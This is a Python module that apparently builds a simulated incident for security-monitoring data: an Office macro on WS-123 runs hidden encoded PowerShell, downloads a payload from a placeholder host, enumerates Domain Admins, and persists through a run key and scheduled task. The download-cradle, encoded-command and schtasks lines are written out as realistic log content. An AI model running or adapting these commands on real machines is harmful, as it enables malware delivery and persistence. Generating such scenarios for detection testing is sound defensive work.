"""Intrusions on workstations and servers."""

from __future__ import annotations

import base64
from datetime import timedelta

from .calendar import moment
from .processes import standing
from .stock import Stock
from .story import Story
from .tenant import Tenant

__all__ = ["encoded_powershell"]


def encoded(script: str) -> str:
    """Return a script as PowerShell's -EncodedCommand takes it."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def encoded_powershell(stock: Stock, company: Tenant) -> Story:
    """A macro on WS-123 starts a download cradle, which beacons and stays by a run key and a task."""
    story = Story(
        stock, "encoded-powershell-ws-123", "incident", "Office macro runs an encoded PowerShell download cradle on WS-123",
        "Show suspicious PowerShell activity on host WS-123 in the last day", "What did jonas@contoso.com's workstation download this morning?",
    )  # fmt: skip
    host, jonas, c2 = company.hosts["WS-123"], company.accounts["jonas"], "203.0.113.77"
    at = moment(16, "08:12:09")
    outlook = standing(host, "OUTLOOK.EXE", jonas)
    attachment = (
        r"C:\Users\jonas\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\T8QK2ZVB\Overdue invoice 88213.docm"
    )
    story.file(at, outlook, attachment, "T1566.001", "the attachment is opened from the mail")
    word = story.process(
        at + timedelta(seconds=2),
        outlook,
        "WINWORD.EXE",
        rf'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{attachment}" /o ""',
        "T1204.002",
        "Word opens a document with macros",
    )
    cradle = "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('http://cdn-invoice.example/u/a.ps1')"
    shell = story.process(
        at + timedelta(seconds=19),
        word,
        "powershell.exe",
        f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {encoded(cradle)}",
        "T1059.001 T1027.010",
        "Word starts hidden, encoded PowerShell",
    )
    story.connect(
        at + timedelta(seconds=21),
        shell,
        c2,
        80,
        "T1105",
        "PowerShell fetches the second stage",
        url="http://cdn-invoice.example/u/a.ps1",
    )
    payload = r"C:\Users\jonas\AppData\Roaming\Microsoft\OneDriveSync\odsync.exe"
    story.file(
        at + timedelta(seconds=26),
        shell,
        payload,
        "T1105",
        "the second stage is written to the profile",
        url="http://cdn-invoice.example/u/odsync.exe",
        origin=c2,
    )
    for name, line, technique in (
        ("whoami.exe", '"C:\\Windows\\system32\\whoami.exe" /all', "T1033"),
        ("net.exe", '"C:\\Windows\\system32\\net.exe" group "Domain Admins" /domain', "T1069.002"),
        ("nltest.exe", '"C:\\Windows\\system32\\nltest.exe" /domain_trusts', "T1482"),
    ):
        at += timedelta(seconds=11)
        story.process(at + timedelta(seconds=30), shell, name, line, technique, f"discovery with {name}")
    run = rf"HKEY_CURRENT_USER\{jonas.sid}\Software\Microsoft\Windows\CurrentVersion\Run"
    story.registry(
        at + timedelta(seconds=64),
        shell,
        run,
        "OneDriveSync",
        payload,
        "T1547.001",
        "a run key starts the payload at logon",
    )
    story.process(
        at + timedelta(seconds=71),
        shell,
        "schtasks.exe",
        rf'"C:\Windows\system32\schtasks.exe" /create /f /sc minute /mo 30 /tn "OneDrive Sync Standalone" /tr "{payload}"',
        "T1053.005",
        "a task starts the payload every half hour",
    )
    implant = story.process(
        at + timedelta(seconds=80),
        shell,
        "odsync.exe",
        payload,
        "T1036.005",
        "the payload starts under the name of a OneDrive part",
        folder=payload.rsplit("\\", 1)[0],
    )
    for beat in range(96):
        when = at + timedelta(seconds=85 + 300 * beat + beat * 7 % 13)
        story.connect(
            when,
            implant,
            c2,
            443,
            "T1071.001" if beat == 0 else "",
            "the payload calls home every five minutes",
            url="cdn-invoice.example",
        )
    story.alert(
        at + timedelta(minutes=4),
        "Suspicious PowerShell download or encoded command execution",
        "Medium",
        "Execution",
        "T1059.001 T1105",
        process=shell,
        account=jonas,
        address=c2,
    )
    return story
